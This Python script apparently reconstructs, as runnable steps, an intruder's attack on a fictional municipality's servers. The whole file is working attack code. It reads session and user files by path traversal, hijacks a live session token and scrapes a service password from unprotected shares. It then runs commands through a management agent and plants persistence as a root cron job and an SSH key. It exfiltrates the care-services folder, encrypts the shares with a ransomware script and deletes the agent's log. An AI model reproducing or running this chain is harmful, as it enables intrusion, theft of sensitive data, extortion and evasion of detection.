"""The intruder's night, one step a call: what was really sent to the municipality's servers, and what came back.

Usage: angrep.py STEP
"""

import base64
import http.client
import json
import re
import sys
import time
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).parent
LOOT = Path("/tmp/bytte.json")
FILES = ("fil01.skarvoy.example", 8080)
AGENT = ("fil01.skarvoy.example", 9100)
TRAVERSAL = "../../../../var/lib/fjernport/okter.json"


def ask(host: str, port: int, method: str, path: str, body: bytes | None = None, **headers: str) -> str:
    connection = http.client.HTTPConnection(host, port)
    connection.request(method, path, body, {"User-Agent": "curl/8.5.0", **headers})
    answer = connection.getresponse().read().decode()
    connection.close()
    time.sleep(1.4)
    return answer


def se() -> None:
    """Look at the portal, and find that its help page trusts what it is asked for."""
    ask("10.20.0.5", 8080, "GET", "/")
    ask("10.20.0.5", 8080, "GET", "/hjelp?side=om")
    for deep in range(1, 4):
        time.sleep(14.5)
        ask("10.20.0.5", 8080, "GET", "/hjelp?side=" + quote("../" * deep + "etc/fjernport/brukere.json", safe="/"))


def stjel() -> None:
    """Take a session that is alive, and enter with it."""
    sessions = json.loads(ask("10.20.0.5", 8080, "GET", f"/hjelp?side={TRAVERSAL}"))
    token = next(token for token, session in sessions.items() if session["bruker"] == "bjorn.eide")
    time.sleep(151)
    inside = json.loads(ask("10.20.0.5", 8080, "GET", "/tunnel", Cookie=f"okt={token}"))["inne"]
    LOOT.write_text(json.dumps({"inside": inside}))


def let() -> None:
    """Look about on the shares that ask for no password, and read one in a script."""
    ask(*FILES, "GET", "/felles/omsorg/")
    listing = ask(*FILES, "GET", "/felles/it/")
    for name in listing.split():
        text = ask(*FILES, "GET", f"/felles/it/{name}")
        time.sleep(19.3)
        if found := re.search(r"svc-speil:(\S+?)[\"']", text):
            LOOT.write_text(json.dumps({**json.loads(LOOT.read_text()), "password": found[1]}))


def bli() -> None:
    """Have the agent run commands, and leave two ways back."""
    order("id; cat etc/hostname; ls srv/felles srv/felles/omsorg")
    time.sleep(74)
    put("/usr/local/lib/tidssynk/tidssynk.py", (HERE / "tidssynk.py").read_bytes())
    put("/etc/cron.d/tidssynk", b"*/5 * * * * root /usr/bin/python3 /usr/local/lib/tidssynk/tidssynk.py\n")
    time.sleep(96)
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk4cVZ2bXNvdHZpbmdlLXRlcm5lLTQ3LW5hdHQ drift@hekkebo"
    order(f"mkdir -p root/.ssh && echo '{key}' >> root/.ssh/authorized_keys")


def hent() -> None:
    """Carry the care services' folder out."""
    order("python3 usr/local/lib/tidssynk/tidssynk.py --send srv/felles/omsorg")


def steng() -> None:
    """Encrypt the shares, and delete what tells how."""
    put("/var/tmp/.sot/sot.py", (HERE / "sot.py").read_bytes())
    time.sleep(143)
    order("python3 var/tmp/.sot/sot.py srv/felles")
    time.sleep(66)
    order("rm var/log/driftsagent.log")


def order(command: str) -> str:
    return ask(*AGENT, "POST", "/kjor", command.encode(), Authorization=operations())


def put(path: str, body: bytes) -> None:
    ask(*AGENT, "PUT", path, body, Authorization=operations())


def operations() -> str:
    word = json.loads(LOOT.read_text())["password"]
    return "Basic " + base64.b64encode(f"svc-speil:{word}".encode()).decode()


if __name__ == "__main__":
    {"se": se, "stjel": stjel, "let": let, "bli": bli, "hent": hent, "steng": steng}[sys.argv[1]]()
